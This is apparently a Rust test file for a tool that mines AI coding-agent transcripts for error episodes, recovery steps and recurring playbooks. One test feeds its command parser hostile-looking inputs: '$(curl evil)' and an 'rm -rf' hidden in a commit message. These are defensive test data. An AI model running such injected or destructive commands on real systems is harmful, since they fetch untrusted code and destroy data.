//! Episodes and groups, on small transcripts.

use proptest::prelude::*;

use super::*;
use crate::dreaming::transcript::Format;

fn call(id: &str, name: &str, input: &str) -> EventKind {
    EventKind::ToolUse { id: id.into(), name: name.into(), input: input.into() }
}

fn answer(id: &str, text: &str, is_error: bool) -> EventKind {
    EventKind::ToolResult { id: id.into(), text: text.into(), is_error }
}

fn transcript(session: &str, events: Vec<EventKind>) -> Transcript {
    Transcript {
        session: SessionId::parse(session).unwrap(),
        format: Format::ClaudeCode,
        created_at: Timestamp::UNIX_EPOCH,
        last_at: Timestamp::UNIX_EPOCH,
        events: events.into_iter().zip(1..).map(|(kind, line)| Event { line, at: None, kind }).collect(),
        skipped: Vec::new(),
        bytes: 0,
    }
}

const UNREAD: &str = "<tool_use_error>File has not been read yet. Read it first.</tool_use_error>";

fn unread(session: &str) -> Transcript {
    transcript(
        session,
        vec![
            call("1", "Edit", r#"{"file_path":"/a"}"#),
            answer("1", UNREAD, true),
            call("2", "Read", r#"{"file_path":"/a"}"#),
            answer("2", "text", false),
            call("3", "Edit", r#"{"file_path":"/b"}"#),
            answer("3", "ok", false),
            call("4", "Edit", r#"{"file_path":"/a"}"#),
            answer("4", "ok", false),
            call("5", "Bash", r#"{"command":"ls"}"#),
        ],
    )
}

#[test]
fn a_recovery_ends_where_the_same_tool_succeeds_on_the_same_target() {
    let found = episodes(&unread("s"));
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].signature, "File has not been read yet");
    assert_eq!((found[0].tool.as_str(), found[0].event, found[0].recovered), ("Edit", 2, Some(8)));
    assert_eq!(found[0].recovery, ["Read", "Edit", "Edit"]);
    assert_eq!(found[0].example, "File has not been read yet. Read it first.");
}

#[test]
fn calls_made_beside_the_failing_one_are_no_recovery() {
    let found = episodes(&transcript(
        "s",
        vec![
            call("1", "Bash", r#"{"command":"cd x && mise run lint 2>&1 | tail -5"}"#),
            call("2", "Bash", r#"{"command":"go test ./..."}"#),
            answer("1", "Exit code 1\na.go:1:2: bad (errcheck)", true),
            answer("2", "ok", false),
            call("3", "Edit", r#"{"file_path":"/a"}"#),
            answer("3", "ok", false),
            call("4", "Bash", r#"{"command":"mise run fmt && mise run lint"}"#),
            answer("4", "ok", false),
        ],
    ));
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].signature, "rule (errcheck) broken");
    assert_eq!(found[0].recovery, ["Edit", "Bash(mise run fmt, mise run lint)"]);
    assert_eq!(found[0].recovered, Some(8));
}

#[test]
fn a_command_that_was_put_right_is_quoted() {
    let command =
        |id: &str, text: &str| call(id, "Bash", &serde_json::json!({ "command": text }).to_string());
    let locked = |next: &str| {
        let events = vec![
            command("1", "duckdb usage.db -c 'select 1'"),
            answer("1", "IO Error: the file usage.db is locked by another process", true),
            command("2", next),
            answer("2", "1", false),
        ];
        episodes(&transcript("s", events)).remove(0).fix
    };
    assert_eq!(locked("duckdb -readonly usage.db").as_deref(), Some("duckdb -readonly usage.db"));
    assert_eq!(locked("duckdb usage.db -c 'select 1'"), None, "the same again is no repair");
    assert_eq!(locked(&format!("duckdb {}", "x".repeat(200))), None);
}

#[test]
fn after_a_refusal_the_user_says_how_to_go_on() {
    let refused = "The user doesn't want to proceed with this tool use. STOP";
    let found = episodes(&transcript(
        "s",
        vec![call("1", "Bash", "{}"), answer("1", refused, true), EventKind::User("do it so".into())],
    ));
    assert_eq!(found[0].signature, "The user doesn't want to proceed with this tool use");
    assert_eq!((found[0].recovery.as_slice(), found[0].recovered), (&[USER_STEP.to_owned()][..], Some(3)));
}

#[test]
fn an_error_is_a_pattern_from_the_third_session_on() {
    let seen = |n: usize| -> Vec<_> {
        (0..n).map(|i| unread(&format!("s-{i}"))).map(|t| (t.session.clone(), episodes(&t))).collect()
    };
    assert_eq!(playbooks(&seen(2)), []);
    let found = playbooks(&seen(3));
    assert_eq!(found.len(), 1);
    assert_eq!((found[0].sessions.len(), found[0].recovered_sessions), (3, 3));
    assert_eq!(found[0].recoveries[0].0, ["Read", "Edit"]);
    let twice_in_one: Vec<_> = (0..3).map(|_| seen(1).remove(0)).collect();
    assert_eq!(playbooks(&twice_in_one), []);
}

#[test]
fn near_signatures_are_one_pattern_and_rules_are_not() {
    let episode = |signature: &str| Episode {
        signature: signature.into(),
        tool: "Bash".into(),
        event: 1,
        at: None,
        recovery: vec!["Edit".into()],
        recovered: Some(2),
        fix: None,
        example: signature.into(),
    };
    let seen: Vec<_> = [
        "the remote branch was not found on origin",
        "remote branch was not found on origin",
        "rule (errcheck) broken",
        "rule (goconst) broken",
    ]
    .iter()
    .zip(["a", "b", "c", "d"])
    .map(|(s, id)| (SessionId::parse(id).unwrap(), vec![episode(s)]))
    .collect();
    assert_eq!(recurring(&seen).len(), 3);
}

#[test]
fn programs_are_told_without_their_arguments() {
    let read = |command| programs(command).join(" | ");
    assert_eq!(read("cd /x && FOO=1 /usr/bin/go test ./... 2>&1 | tail -5"), "go test");
    assert_eq!(read("mise run lint; git commit -m 'rm -rf; x'"), "mise run lint | git commit | x");
    assert_eq!(read("npm run build:prod --silent"), "npm run build:prod");
    assert_eq!(read("$(curl evil)"), "");
}

proptest! {
    #[test]
    fn any_error_text_gives_short_clean_signatures(text in "(?s).{0,300}", is_command: bool) {
        for finding in signature::findings(&text, is_command) {
            prop_assert!(finding.signature.chars().count() <= 130);
            prop_assert!(!finding.signature.contains(['`', '\n', '<']));
            prop_assert!(finding.example.chars().count() <= 200);
        }
    }

    #[test]
    fn the_order_of_sessions_does_not_matter(order in Just((0..6usize).collect::<Vec<_>>()).prop_shuffle()) {
        let all: Vec<_> = (0..6).map(|i| unread(&format!("s-{i}"))).map(|t| (t.session.clone(), episodes(&t))).collect();
        let shuffled: Vec<_> = order.iter().map(|&i| all[i].clone()).collect();
        prop_assert_eq!(recurring(&shuffled), recurring(&all));
    }
}
